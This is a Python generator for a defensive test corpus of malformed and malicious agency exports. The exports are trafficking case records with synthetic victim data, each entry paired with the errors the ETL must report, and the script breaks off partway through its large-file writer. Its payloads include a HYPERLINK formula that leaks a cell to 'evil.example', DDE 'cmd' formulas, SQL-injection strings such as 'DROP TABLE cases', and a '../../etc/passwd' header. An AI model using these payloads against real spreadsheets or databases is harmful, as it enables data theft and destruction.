"""Generate the hostile-input corpus: broken, odd and malicious agency exports, each with what the ETL must do.

    python tests/data/bad/make_corpus.py            # (re)write every small file and expected.json here
    python tests/data/bad/make_corpus.py --big DIR  # also write the 200 MB export into DIR (never committed)

Every file is generated from code with a fixed seed, so the corpus is byte-for-byte reproducible and
tests/test_hostile_inputs.py checks that the committed files are what this script writes. Each file has an entry in
expected.json: the name it is given in the raw folder, what it tries, the cases and victims that must load from it,
and the messages (action, row, column, fragment of the reason) that must appear for it.

The files are read with the layouts in tests/data/bad/layouts/ (police: case grain, five date formats; ngo: victim
grain; labour: an .xlsx register whose header is on row 3 of sheet "Register").
"""

from __future__ import annotations

import argparse
import codecs
import datetime as dt
import hashlib
import io
import json
import random
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
SEED = 20260606
ZIP_TIME = (1980, 1, 1, 0, 0, 0)
BIG_BYTES = 200 * 1024 * 1024

POLICE = ["FIR ID", "District", "Complaint Date", "FIR No", "FIR Date", "Crime", "Sections", "Status", "Result",
          "Decision Date", "Victims", "Sex", "Age", "Sentence", "Victim Name", "CNIC", "Mobile", "Address",
          "Brief Facts", "Synthetic Record"]
NGO = ["Ref", "District", "Date", "FIR", "Type", "Gender", "Age", "Referred", "Name", "Phone"]
LABOUR = ["Complaint No", "District", "Date of Complaint", "Kiln / Employer", "Workers Freed", "Worker Sex",
          "Worker Age", "Worker Name", "Worker CNIC"]

URDU_NAMES = ["علی رضا", "فاطمہ بی بی", "محمد اسلم", "زینب خاتون", "غلام مصطفیٰ", "رخسانہ کوثر"]
LATIN_NAMES = ["Ali Raza", "Fatima Bibi", "Muhammad Aslam", "Zainab Khatoon", "Ghulam Mustafa", "Rukhsana Kausar"]


@dataclass
class Case:
    """One corpus file and what the ETL must make of it."""

    file: str  # name in tests/data/bad/
    raw_name: str  # name it gets in the raw folder
    what: str
    cases: int  # cases that must load from this file alone
    victims: int | None = None
    issues: list[dict] = field(default_factory=list)  # {"action", "fragment", optional "row", "column"}
    planted: list[str] = field(default_factory=list)  # personal values that must not reach the warehouse
    extra: dict = field(default_factory=dict)
    data: bytes = b""
    copies: list[str] = field(default_factory=list)  # further raw names holding the same bytes

    def manifest(self) -> dict:
        out = {"raw_name": self.raw_name, "what": self.what, "cases": self.cases, "victims": self.victims,
               "issues": self.issues, "planted": self.planted, "sha256": hashlib.sha256(self.data).hexdigest(),
               "bytes": len(self.data)}
        if self.copies:
            out["copies"] = self.copies
        out.update(self.extra)
        return out


def issue(action: str, fragment: str, row: int | None = None, column: str | None = None) -> dict:
    out = {"action": action, "fragment": fragment}
    if row is not None:
        out["row"] = row
    if column is not None:
        out["column"] = column
    return out


# --- row builders -----------------------------------------------------------------------------------------------

class Ids:
    """Case references and FIR numbers unique across the corpus, so files never merge with each other."""

    def __init__(self) -> None:
        self.n = 0

    def fir(self) -> str:
        self.n += 1
        return f"FIR {self.n}/2020 PS Model Town"


IDS = Ids()
RNG = random.Random(SEED)


def cnic() -> str:
    return f"{RNG.randint(31000, 45999)}-{RNG.randint(1000000, 9999999)}-{RNG.randint(1, 9)}"


def phone() -> str:
    return f"03{RNG.randint(0, 4)}{RNG.randint(0, 9)}-{RNG.randint(1000000, 9999999)}"


def police_row(ref: str, planted: list[str] | None = None, **values: str) -> list[str]:
    """A good police row; keyword arguments (header names with spaces as underscores) override fields."""
    name = RNG.choice(LATIN_NAMES + URDU_NAMES)
    row = {
        "FIR ID": ref, "District": "Lahore", "Complaint Date": "01/02/2020", "FIR No": IDS.fir(),
        "FIR Date": "03/02/2020", "Crime": "kiln", "Sections": "BLSA, 374 PPC", "Status": "challan submitted",
        "Result": "", "Decision Date": "", "Victims": "2", "Sex": "F", "Age": "17", "Sentence": "",
        "Victim Name": name, "CNIC": cnic(), "Mobile": phone(), "Address": f"House {RNG.randint(1, 999)}, Gulberg",
        "Brief Facts": f"{name} was kept at a brick kiln", "Synthetic Record": "SYNTHETIC",
    }
    for key, value in values.items():
        row[key.replace("_", " ")] = value
    if planted is not None:
        planted += [row["CNIC"], row["Mobile"], row["Address"]]
    return [row[h] for h in POLICE]


def line(row: list[str], delimiter: str = ",", raw: int | None = None) -> str:
    """One CSV record, quoted where needed; the value at index ``raw`` is written as is (to break it)."""

    def cell(v: str) -> str:
        needs = any(ch in v for ch in (delimiter, '"', "\n", "\r"))
        return '"' + v.replace('"', '""') + '"' if needs else v

    return delimiter.join(v if i == raw else cell(v) for i, v in enumerate(row))


def csv_text(header: list[str], rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    lines = [line(header, delimiter)] + [line(r, delimiter) for r in rows]
    return newline.join(lines) + newline


def police_csv(rows: list[list[str]], **kw) -> bytes:
    return csv_text(POLICE, rows, **kw).encode("utf-8")


def fixed_zip(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(zipfile.ZipInfo(name, ZIP_TIME), data)
    return buf.getvalue()


def workbook(build) -> bytes:
    """An .xlsx written by xlsxwriter with fixed properties (xlsxwriter fixes the zip timestamps itself)."""
    import xlsxwriter

    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    wb.set_properties({"created": dt.datetime(2024, 1, 1), "author": "corpus"})
    build(wb)
    wb.close()
    return buf.getvalue()


def police_workbook(rows: list[list[str]]) -> bytes:
    def build(wb):
        ws = wb.add_worksheet("Cases")
        ws.write_row(0, 0, POLICE)
        for i, r in enumerate(rows, start=1):
            ws.write_row(i, 0, r)

    return workbook(build)


# --- the corpus -------------------------------------------------------------------------------------------------

def corpus() -> list[Case]:
    global IDS, RNG
    IDS, RNG = Ids(), random.Random(SEED)
    cases: list[Case] = []

    def add(c: Case) -> None:
        cases.append(c)

    def good_rows(prefix: str, n: int, planted: list[str] | None = None, **kw) -> list[list[str]]:
        return [police_row(f"{prefix}-{i}", planted, **kw) for i in range(1, n + 1)]

    # 1. Files that cannot be used at all --------------------------------------------------------------------
    add(Case("empty.csv", "police_empty.csv", "a file of 0 bytes", 0,
             issues=[issue("file skipped", "the file is empty")], data=b""))
    add(Case("blank_lines.csv", "police_blank.csv", "only blank lines and whitespace (CRLF)", 0,
             issues=[issue("file skipped", "the file is empty")], data=b"\r\n   \r\n\t\r\n\r\n"))
    junk = random.Random(SEED + 1).randbytes(8192)
    add(Case("binary_junk.csv", "police_junk.csv", "random binary bytes with a .csv name", 0,
             issues=[issue("file skipped", "binary data")], data=junk))
    add(Case("png_named_csv.csv", "police_image.csv", "a PNG image renamed to .csv", 0,
             issues=[issue("file skipped", "binary data")],
             data=b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(SEED + 2).randbytes(2048)))
    add(Case("old_excel.csv", "police_old.csv", "an old Excel .xls (OLE2) workbook renamed to .csv", 0,
             issues=[issue("file skipped", "old Excel (.xls)")],
             data=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)))
    add(Case("zip_of_junk.xlsx", "police_zip.xlsx", "a zip archive of junk named .xlsx", 0,
             issues=[issue("file skipped", "cannot be opened")],
             data=fixed_zip({"junk.bin": random.Random(SEED + 3).randbytes(512), "readme.txt": b"not a workbook"})))
    full = police_workbook(good_rows("TRUNC", 3))
    add(Case("truncated.xlsx", "police_truncated.xlsx", "an .xlsx cut off half way (interrupted copy)", 0,
             issues=[issue("file skipped", "cannot be opened")], data=full[: len(full) // 2]))
    add(Case("unknown_layout.csv", "agency_x_export.csv", "an export from an agency no layout describes", 0,
             issues=[issue("file skipped", "no source layout describes this file")],
             data=b"Complaint No,Tehsil,Date Filed,Complainant\n77/2021,Kasur,2021-03-01,Someone\n"))
    add(Case("pdf_report.pdf", "annual_report.pdf", "a PDF in the raw folder", 0,
             issues=[issue("file skipped", "'.pdf' files are not read")], data=b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"))
    add(Case("header_blank.csv", "police_header_blank.csv", "a header row of blanks", 0,
             issues=[issue("file skipped", "the first row (the header) is empty")],
             data=(",,,,,,\n" + line(police_row("HB-1")) + "\n").encode()))
    add(Case("one_column.csv", "police_one_column.csv", "a one-column file (only the case reference)", 0,
             issues=[issue("file skipped", "required column(s) 'District' (district), 'Complaint Date'")],
             data=b"FIR ID\nOC-1\nOC-2\n"))
    planted = []
    rows = good_rows("NOHDR", 3, planted)
    add(Case("headerless.csv", "police_no_header.csv",
             "a police export without its header row: the first data row (names, CNICs) must not be quoted", 0,
             planted=planted + [r[POLICE.index("Victim Name")] for r in rows],
             issues=[issue("file skipped", "is the header row missing")],
             data="\n".join(line(r) for r in rows).encode() + b"\n"))
    missing = [h if h != "Complaint Date" else "Date" for h in POLICE]
    add(Case("missing_required_column.csv", "police_missing_date.csv", "the required date column is missing", 0,
             issues=[issue("file skipped", "'Complaint Date' (date_reported) not found in the header")],
             data=csv_text(missing, good_rows("MR", 2)).encode()))
    add(Case("header_then_blank_lines.csv", "police_header_blank_lines.csv", "a header, then only blank lines", 0,
             issues=[issue("warning", "no data rows")], data=(",".join(POLICE) + "\r\n\r\n\r\n   \r\n").encode()))
    add(Case("header_only.csv", "police_header_only.csv", "a header and no data rows", 0,
             issues=[issue("warning", "no data rows")], data=csv_text(POLICE, []).encode()))

    # 2. Encodings and delimiters --------------------------------------------------------------------------------
    planted: list[str] = []
    rows = [police_row(f"U16-{i}", planted, District="لاہور", Victim_Name=URDU_NAMES[i],
                       Brief_Facts=f"{URDU_NAMES[i]} کو بھٹے پر رکھا گیا") for i in range(4)]
    add(Case("utf16le_bom_urdu.csv", "police_utf16.csv", "UTF-16 LE with BOM, Urdu names and district", 4, 8,
             planted=planted + URDU_NAMES[:4], data=csv_text(POLICE, rows, newline="\r\n").encode("utf-16")))
    planted = []
    rows = [police_row(f"U16BE-{i}", planted, District="Kasur") for i in range(3)]
    add(Case("utf16be_nobom.csv", "police_utf16be.csv", "UTF-16 BE without a BOM", 3, 6, planted=planted,
             data=csv_text(POLICE, rows).encode("utf-16-be")))
    planted = []
    rows = [police_row(f"CP-{i}", planted, Victim_Name=n, Brief_Facts=f"{n}’s employer – “the kiln”")
            for i, n in enumerate(["Zoë Cañón", "Ghulam Mustafá", "Bibi Näz"])]
    add(Case("cp1252_accents.csv", "police_cp1252.csv", "Windows-1252 with accents and curly quotes", 3, 6,
             planted=planted + ["Zoë Cañón"], data=csv_text(POLICE, rows).encode("cp1252")))
    # Latin-1 text with a UTF-8 Urdu district pasted in: the file is neither valid UTF-8 nor Windows-1252.
    rows = [police_row("MIX-1", Victim_Name="Zoë"), police_row("MIX-2", District="لاہور", Victim_Name="Zoë")]
    text = csv_text(POLICE, rows)
    urdu = "لاہور".encode()
    data = text.replace("لاہور", "\0URDU\0").encode("latin-1").replace(b"\0URDU\0", urdu)
    add(Case("latin1_with_utf8_urdu.csv", "police_mixed_encoding.csv",
             "Latin-1 with a UTF-8 Urdu district pasted in (mixed encodings)", 2, 4,
             extra={"note": "the Urdu district becomes mojibake, matches no district and is counted in Punjab"},
             data=data))
    add(Case("bom_semicolon.csv", "police_bom_semicolon.csv", "UTF-8 BOM and semicolon delimiter", 3, 6,
             data=codecs.BOM_UTF8 + csv_text(POLICE, good_rows("BS", 3), delimiter=";").encode()))
    add(Case("tab_delimited.tsv", "police_tab.tsv", "tab-delimited with a .tsv name", 2, 4,
             data=csv_text(POLICE, good_rows("TAB", 2), delimiter="\t").encode()))
    add(Case("pipe_delimited.txt", "police_pipe.txt", "pipe-delimited with a .txt name", 2, 4,
             data=csv_text(POLICE, good_rows("PIPE", 2), delimiter="|").encode()))
    rows = good_rows("SC", 4, Sections="BLSA, 374, 370", Brief_Facts="Khan, Ali, and others, at the kiln")
    add(Case("semicolon_with_commas.csv", "police_semicolon_commas.csv",
             "semicolon-delimited where values hold many commas (wrong delimiter guess bait)", 4, 8,
             extra={"law_codes": ["BLSA", "PPC370", "PPC374"]},
             data=csv_text(POLICE, rows, delimiter=";").encode()))
    add(Case("crlf.csv", "police_crlf.csv", "Windows CRLF line endings, one bad date on row 3", 2, 4,
             issues=[issue("row rejected", "not a valid date", row=3, column="Complaint Date")],
             data=police_csv([police_row("CRLF-1"), police_row("CRLF-2", Complaint_Date="31/02/2020"),
                              police_row("CRLF-3")], newline="\r\n")))
    add(Case("cr_only.csv", "police_cr.csv", "old Mac CR-only line endings, one bad date on row 3", 2, 4,
             issues=[issue("row rejected", "not a valid date", row=3, column="Complaint Date")],
             data=police_csv([police_row("CR-1"), police_row("CR-2", Complaint_Date="31/02/2020"),
                              police_row("CR-3")], newline="\r")))
    # Pure ASCII for the first 256 KB (the part encoding detection samples), then Windows-1252 bytes.
    filler = [police_row(f"LATE-{i}", Victim_Name="Ali Raza", Brief_Facts="x" * 900) for i in range(1, 301)]
    filler.append(police_row("LATE-301", Victim_Name="Zoë Cañón", District="Multan"))
    add(Case("utf8_then_cp1252.csv", "police_late_cp1252.csv",
             "ASCII for 270 KB, then a Windows-1252 name after the detection sample", 301, 602,
             issues=[issue("warning", "read as Windows-1252")], data=csv_text(POLICE, filler).encode("cp1252")))
    rows = [police_row("BADBYTE-1", District="لاہور", Victim_Name=URDU_NAMES[0]),
            police_row("BADBYTE-2", Victim_Name="Zo@@"),
            police_row("BADBYTE-3", District="ملتان", Victim_Name=URDU_NAMES[1])]
    add(Case("utf8_urdu_with_latin1_line.csv", "police_stray_latin1.csv",
             "UTF-8 Urdu text with one line holding a Latin-1 byte: the Urdu districts must still match", 3, 6,
             issues=[issue("warning", "read as Windows-1252")], extra={"districts": {"lahore": 2, "multan": 1}},
             data=police_csv(rows).replace(b"Zo@@", b"Zo\xeb")))
    planted = []
    rows = [police_row("NUL-1", planted), police_row("NUL-2", planted, Brief_Facts="kiln\0\0\0 owner"),
            police_row("NUL-3", planted)]
    add(Case("nul_bytes.csv", "police_nul.csv", "NUL bytes inside a narrative on row 3", 3, 6, planted=planted,
             issues=[issue("warning", "NUL")], data=police_csv(rows)))

    # 3. Headers ----------------------------------------------------------------------------------------------
    dup = POLICE + ["District"]
    rows = [r + ["Gotham"] for r in good_rows("DUPH", 2)]
    add(Case("duplicate_header.csv", "police_duplicate_header.csv", "the District header appears twice", 2, 4,
             issues=[issue("warning", "header 'District' appears twice", row=1, column="District")],
             extra={"districts": {"lahore": 2}}, data=csv_text(dup, rows).encode()))
    extra = POLICE + ["Informant Name", "Notes", "Accused CNIC"]
    planted = []
    rows = []
    for i in range(1, 3):
        informant, accused = f"Informant {LATIN_NAMES[i]}", cnic()
        planted += [informant, accused]
        rows.append(police_row(f"EXT-{i}", planted) + [informant, "called twice", accused])
    add(Case("extra_columns.csv", "police_extra_columns.csv", "three columns no layout knows, holding personal data",
             2, 4, planted=planted,
             issues=[issue("warning", "column 'Informant Name' is not in layout", column="Informant Name"),
                     issue("warning", "column 'Accused CNIC' is not in layout", column="Accused CNIC")],
             data=csv_text(extra, rows).encode()))
    odd = [f"  {h.upper()} " if i % 2 else h.lower() for i, h in enumerate(POLICE)]
    add(Case("header_case_spaces.csv", "police_header_case.csv", "headers in other cases with stray spaces", 2, 4,
             data=csv_text(odd, good_rows("HCS", 2)).encode()))
    pre = "Punjab Police — TIP register\nExported 2024-01-05,,,\n" + csv_text(POLICE, good_rows("PRE", 3))
    add(Case("title_rows_above_header.csv", "police_title_rows.csv", "two title rows above the header", 3, 6,
             issues=[issue("warning", "the header is on row 3")], data=pre.encode()))
    drop = [h for h in POLICE if h not in ("Sentence", "Age", "Sex")]
    rows = [[v for h, v in zip(POLICE, r, strict=True) if h in drop] for r in good_rows("MO", 2)]
    add(Case("missing_optional_columns.csv", "police_missing_optional.csv", "optional columns missing", 2, 4,
             issues=[issue("warning", "optional column 'Age' (victim_age) is missing")],
             data=csv_text(drop, rows).encode()))
    text = police_csv(good_rows("RAG", 2)).decode()
    text += line(police_row("RAG-3")) + ",surplus,values\n"
    text += "RAG-4,Lahore,01/02/2020\n"
    add(Case("ragged_rows.csv", "police_ragged.csv", "a row with too many values and a short row", 3, 5,
             issues=[issue("row rejected", "more values than the header", row=4)], data=text.encode()))
    wide = POLICE + [f"Extra {i}" for i in range(1, 401)]
    rows = [r + [str(i)] * 400 for i, r in enumerate(good_rows("WIDE", 2))]
    add(Case("four_hundred_columns.csv", "police_wide.csv", "400 unknown columns", 2, 4,
             issues=[issue("warning", "400 columns are not in layout")], data=csv_text(wide, rows).encode()))

    # 4. Values --------------------------------------------------------------------------------------------
    nums = [("three", "seventeen"), ("3.0", "17 years"), (" 04 ", "١٧"), ("۵", "۱۷"), ("٢", "17.0")]
    rows = [police_row(f"NUM-{i}", Victims=v, Age=a) for i, (v, a) in enumerate(nums, start=1)]
    add(Case("numbers_as_text.csv", "police_numbers_text.csv",
             "counts and ages as words, decimals, padded and in Urdu/Arabic-Indic digits", 5, 3 + 3 + 4 + 5 + 2,
             extra={"age_bands": {"9-17": 5}}, data=police_csv(rows)))
    formats = ["01/02/2020", "01-Feb-2020", "01.02.2020", "February 1, 2020", "2020-02-01", "43862",
               "۰۱/۰۲/۲۰۲۰", "2020-02-01 00:00:00"]
    rows = [police_row(f"DATE-{i}", Complaint_Date=d, FIR_Date="") for i, d in enumerate(formats, start=1)]
    add(Case("dates_five_formats.csv", "police_date_formats.csv",
             "one date in eight spellings: four layout formats, ISO, ISO with time, an Excel serial, Urdu digits",
             8, 16, extra={"report_months": {"2020-02-01": 8}}, data=police_csv(rows)))
    bad_dates = ["2020-02-30", "00/00/0000", "1/13/2020", "31/04/2020", "29/02/2021", "31/12/1999", "01/01/2099",
                 "yesterday", ""]
    rows = [police_row("IMP-0")] + [police_row(f"IMP-{i}", Complaint_Date=d) for i, d in
                                    enumerate(bad_dates, start=1)] + [police_row("IMP-10", Complaint_Date="29/02/2020")]
    add(Case("impossible_dates.csv", "police_impossible_dates.csv",
             "impossible, ambiguous, pre-2000, future and empty report dates among two good rows", 2, 4,
             issues=[issue("row rejected", "not a valid date", row=3, column="Complaint Date"),
                     issue("row rejected", "not a valid date", row=4, column="Complaint Date"),
                     issue("row rejected", "not a valid date", row=5, column="Complaint Date"),
                     issue("row rejected", "not a valid date", row=6, column="Complaint Date"),
                     issue("row rejected", "not a valid date", row=7, column="Complaint Date"),
                     issue("row rejected", "impossible (before 2000 or in the future)", row=8),
                     issue("row rejected", "impossible (before 2000 or in the future)", row=9),
                     issue("row rejected", "not a valid date", row=10, column="Complaint Date"),
                     issue("row rejected", "the date reported is empty", row=11, column="Complaint Date")],
             data=police_csv(rows)))
    odd_values = [("Age", "-5"), ("Age", "150"), ("Victims", "0"), ("Victims", "100000"),
                  ("Victims", "99999999999999999999999999"), ("Victims", "-3"), ("Sentence", "forever"),
                  ("Crime", "something else"), ("FIR Date", "01/01/1990"), ("Victims", "1e3")]
    rows = [police_row(f"ODD-{i}", **{k.replace(' ', '_'): v}) for i, (k, v) in enumerate(odd_values, start=1)]
    victims = sum(1 if k == "Victims" else 2 for k, _ in odd_values)
    add(Case("out_of_range_values.csv", "police_out_of_range.csv",
             "negative and huge ages and victim counts, a 26-digit count, unknown codes: cleared, rows kept", 10,
             victims, issues=[issue("value cleared", "not an age", row=2, column="Age"),
                              issue("value cleared", "not an age", row=3, column="Age"),
                              issue("value cleared", "not a victim count", row=4, column="Victims"),
                              issue("value cleared", "not a victim count", row=5, column="Victims"),
                              issue("value cleared", "not a victim count", row=6, column="Victims"),
                              issue("value cleared", "not a victim count", row=7, column="Victims"),
                              issue("value cleared", "not a sentence", row=8, column="Sentence"),
                              issue("value cleared", "unknown code", row=9, column="Crime"),
                              issue("value cleared", "impossible", row=10, column="FIR Date"),
                              issue("value cleared", "not a victim count", row=11, column="Victims")],
             data=police_csv(rows)))
    formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|x",
                "@SUM(1+1)", "-2+3+cmd|' /C notepad'!A0", "=1+1"]
    planted = []
    rows = [
        police_row(formulas[0], planted, Victim_Name=formulas[5], CNIC=formulas[3], Brief_Facts=formulas[1]),
        police_row("FX-2", planted, District=formulas[1], Crime=formulas[2], Sections=formulas[3]),
        police_row("FX-3", planted, Sentence=formulas[4], Sex=formulas[5], Status="=A1"),
        police_row("FX-4", planted, District="=Lahore"),
    ]
    add(Case("formula_injection.csv", "police_formulas.csv",
             "cells starting with = + - @ in reference, district, codes, sentence and personal columns", 4, 8,
             planted=planted + formulas,
             issues=[issue("value cleared", "unknown code", row=3, column="Crime"),
                     issue("value cleared", "not a sentence", row=4, column="Sentence")],
             data=police_csv(rows)))
    rows = [police_row("UD-1", District="Gotham"), police_row("UD-2", District="Narnia City"),
            police_row("UD-3", District=""), police_row("UD-4", District="Lahore")]
    add(Case("unknown_district.csv", "police_unknown_district.csv",
             "districts that do not exist and an empty one: kept, counted in the province", 4, 8,
             issues=[issue("warning", "matches no district", row=2, column="District"),
                     issue("warning", "matches no district", row=3, column="District"),
                     issue("warning", "the district is empty", row=4, column="District")],
             extra={"districts": {"lahore": 1, "(none)": 3}}, data=police_csv(rows)))
    rows = [police_row("UR-1", District="لاہور"), police_row("UR-2", District="ضلع قصور"),
            police_row("UR-3", District="کراچی")]
    add(Case("urdu_districts.csv", "police_urdu_districts.csv", "districts written in Urdu script", 3, 6,
             extra={"districts": {"lahore": 1, "kasur": 1, "(none)": 1}}, data=police_csv(rows)))
    planted = []
    rows = [police_row("QN-1", planted, Brief_Facts="line one\nline two, with \"quotes\"\r\nline three"),
            police_row("QN-2", planted, District="Lahore\nCantt"),
            police_row("QN-3", planted, Complaint_Date="31/02/2020"),
            police_row("QN-4", planted)]
    add(Case("quoted_newlines.csv", "police_quoted_newlines.csv",
             "quoted newlines and quotes inside values; the bad date is still reported on spreadsheet row 4", 3, 6,
             planted=planted, issues=[issue("row rejected", "not a valid date", row=4, column="Complaint Date")],
             data=police_csv(rows)))
    text = police_csv([police_row("UQ-1")]).decode()
    text += line(police_row("UQ-2", District='Lah"ore'), raw=1) + "\n"
    text += line(police_row("UQ-3", Brief_Facts='"unterminated narrative'), raw=POLICE.index("Brief Facts")) + "\n"
    text += line(police_row("UQ-4")) + "\n"
    text += line(police_row("UQ-5")) + "\n"
    add(Case("unbalanced_quotes.csv", "police_unbalanced_quotes.csv",
             "a stray quote inside a value (read as it is) and a quote that is never closed (only its row is lost)",
             4, 8,
             issues=[issue("row rejected", "quote", row=4)],
             extra={"note": "an unclosed quote swallows the rest of the file in most readers; here only its row "
                            "is lost"},
             data=text.encode()))
    text = police_csv(good_rows("BL", 2)).decode()
    text += "\n\n" + "," * (len(POLICE) - 1) + "\n" + line(police_row("BL-3")) + "\n"
    text += line(police_row("BL-4", Complaint_Date="32/01/2020")) + "\n"
    add(Case("blank_rows_inside.csv", "police_blank_rows.csv",
             "blank lines and an all-empty row between data rows; a bad date on spreadsheet row 8", 3, 6,
             issues=[issue("row rejected", "not a valid date", row=8, column="Complaint Date")],
             data=text.encode()))
    planted = []
    rows = [police_row("LONG-1", planted, Brief_Facts="صفحہ " * 15_000), police_row("LONG-2", planted)]
    add(Case("long_line.csv", "police_long_line.csv", "a 135 KB narrative on one line", 2, 4, planted=planted,
             data=police_csv(rows)))
    g = police_row("DUPR-1")
    later = list(g)
    later[POLICE.index("Result")], later[POLICE.index("Decision Date")] = "convicted", "01/06/2022"
    add(Case("duplicate_rows.csv", "police_duplicate_rows.csv", "a row repeated exactly and a later update", 1, 2,
             issues=[issue("duplicate merged", "exact duplicate of row 2", row=3),
                     issue("duplicate merged", "same case reference", row=2)],
             extra={"stage": "trial_concluded"}, data=police_csv([g, g, later])))
    planted = []
    rows = [police_row("SQL-1", planted, FIR_ID="'); DROP TABLE cases; --"),
            police_row("SQL-2", planted, District="Lahore'; DELETE FROM districts; --"),
            police_row("SQL-3", planted, Sections="x'); DROP TABLE law_map; --", Crime="$1"),
            police_row("SQL-4", planted, Sentence="1 year'); COPY cases TO '/tmp/x.csv'; --")]
    add(Case("sql_in_values.csv", "police_sql.csv", "SQL-injection strings in reference, district and codes", 4, 8,
             planted=planted, issues=[issue("value cleared", "unknown code", row=4, column="Crime")],
             data=police_csv(rows)))
    hdr = POLICE + ['x"; DROP TABLE cases; --', "../../etc/passwd"]
    rows = [r + ["a", "b"] for r in good_rows("SQLH", 2)]
    add(Case("sql_in_header.csv", "police_sql_header.csv", "SQL and a path in unknown header names", 2, 4,
             issues=[issue("warning", "is not in layout", column="../../etc/passwd")],
             data=csv_text(hdr, rows).encode()))

    # 5. Names and containers ------------------------------------------------------------------------------
    add(Case("upper_extension.CSV", "POLICE_UPPER.CSV", "upper-case file name and .CSV extension", 2, 4,
             data=police_csv(good_rows("UP", 2))))
    add(Case("odd_file_name.csv", "police O'Brien; DROP TABLE cases;-- لاہور.csv",
             "a file name with a quote, SQL and Urdu", 2, 4, data=police_csv(good_rows("NAME", 2))))
    same = police_csv(good_rows("TWIN", 3))
    add(Case("same_bytes_twice.csv", "police_twin_a.csv", "the same export saved twice under two names", 3, 6,
             copies=["police_twin_b.csv"],
             issues=[issue("file skipped", "same content as police_twin_a.csv")], data=same))
    add(Case("xlsx_named_csv.csv", "police_really_xlsx.csv", "an .xlsx workbook saved with a .csv name", 2, 4,
             data=police_workbook(good_rows("XC", 2))))
    add(Case("csv_named_xlsx.xlsx", "police_really_csv.xlsx", "a CSV export saved with an .xlsx name", 2, 4,
             issues=[issue("warning", "holds CSV text")], data=police_csv(good_rows("CX", 2))))
    add(Case("labour_register.xlsx", "labour_register.xlsx",
             "a workbook: notes and hidden sheets first, header on row 3, merged case cells over victim rows, "
             "formulas with cached values, real and text dates, an error cell, a blank row", 3, 4,
             issues=[issue("warning", "merged cells in rows 4-5"),
                     issue("row rejected", "the date reported is empty", row=8, column="Date of Complaint")],
             extra={"districts": {"multan": 1, "bahawalpur": 1, "lodhran": 1}}, data=labour_workbook()))

    def sheets_without_header(wb):
        wb.add_worksheet("Summary").write(0, 0, "Totals")
        wb.add_worksheet("Chart data").write_row(0, 0, ["Year", "Count"])

    def short_register(wb):
        wb.add_worksheet("Register").write(0, 0, "Complaint No")

    add(Case("register_too_short.xlsx", "labour_short.xlsx",
             "the layout's sheet exists but ends before the layout's header row (row 3)", 0,
             issues=[issue("file skipped", "no sheet 'Register' or sheet has a header")],
             data=workbook(short_register)))
    add(Case("workbook_no_header.xlsx", "police_summary.xlsx", "a workbook whose sheets have no layout's header", 0,
             issues=[issue("file skipped", "no sheet has a header")], data=workbook(sheets_without_header)))

    # 6. Victim grain ------------------------------------------------------------------------------------------
    ngo = [["N1", "Multan", "2021-03-01", "", "bonded_labour", "female", "12", "yes", "زینب", "0300-1112223"],
           ["N1", "Multan", "2021-03-01", "", "bonded_labour", "male", "14", "yes", "علی", "0300-1112224"],
           ["N2", "ملتان", "2021-03-05", "", "forced_begging", "female", "", "haan", "رخسانہ", "0300-1112225"],
           ["", "Multan", "2021-03-05", "", "forced_begging", "female", "9", "no", "x", "0300-1112226"]]
    add(Case("ngo_victims_urdu.csv", "ngo_victims.csv", "victim-grain NGO export with Urdu names and words", 2, 3,
             planted=["زینب", "رخسانہ", "0300-1112223", "0300-1112225"],
             issues=[issue("row rejected", "the case reference is empty", row=5, column="Ref")],
             data=csv_text(NGO, ngo).encode("utf-8")))
    return cases


def labour_workbook() -> bytes:
    def build(wb):
        notes = wb.add_worksheet("Notes")
        notes.write(0, 0, "Labour Department, South Punjab: bonded labour register")
        hidden = wb.add_worksheet("Lookup")
        hidden.write_row(0, 0, ["Complaint No", "District", "Date of Complaint"])
        hidden.hide()
        ws = wb.add_worksheet("Register")
        date_fmt = wb.add_format({"num_format": "dd/mm/yyyy"})
        ws.merge_range(0, 0, 0, 5, "Bonded labour complaints 2021")
        ws.write(1, 0, "Printed from the register")
        ws.write_row(2, 0, LABOUR)
        # Case L1: two freed workers, case cells merged over rows 4-5.
        ws.merge_range(3, 0, 4, 0, "L1")
        ws.merge_range(3, 1, 4, 1, "Multan")
        ws.merge_range(3, 2, 4, 2, dt.datetime(2021, 4, 2), date_fmt)
        ws.merge_range(3, 3, 4, 3, "Kiln 7")
        ws.write_formula(3, 4, "=1+1", None, 2)
        ws.write_row(3, 5, ["male", "34", "Allah Ditta", "36302-1111111-1"])
        ws.write_row(4, 5, ["female", "=16", "Nasreen", "36302-2222222-2"])
        ws.write_formula(4, 6, "=10+6", None, 16)
        # Row 6 blank; L2 with a text date, L3 with an Excel serial number, L4 with an error in the date cell.
        ws.write_row(6, 0, ["L2", "Bahawalpur", "05-May-2021", "Kiln 9", 1, "female", 40, "Sakina", ""])
        ws.write_row(7, 0, ["L4", "Lodhran", None, "Kiln 2", 1, "male", 22, "Rafiq", ""])
        ws.write_formula(7, 2, "=1/0", None, "#DIV/0!")
        ws.write_row(8, 0, ["L3", "Lodhran", 44400, "Kiln 3", 1, "male", 19, "Bashir", ""])
        ws.write_formula(8, 4, '="1"', None, "1")

    return workbook(build)


def write_big(directory: Path, size: int = BIG_BYTES) -> dict:
    """A ~200 MB police export: long narratives in a personal column, one 5 MB line, one impossible date.

    Returns what must load. The rows are written with the same generator for any size, so a test can ask for
    a smaller file when it only checks behaviour.
    """
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "police_big.csv"
    rng = random.Random(SEED + 9)
    facts = "".join(rng.choice("abcdefghij klmnopqrstuvwxyz") for _ in range(10_000))
    header = ",".join(POLICE) + "\n"
    n = rejected = 0
    with path.open("w", encoding="utf-8", newline="") as fh:
        fh.write(header)
        written = len(header)
        while written < size:
            n += 1
            date = "31/02/2021" if n == 7 else f"{1 + n % 28:02d}/{1 + n % 12:02d}/{2015 + n % 9}"
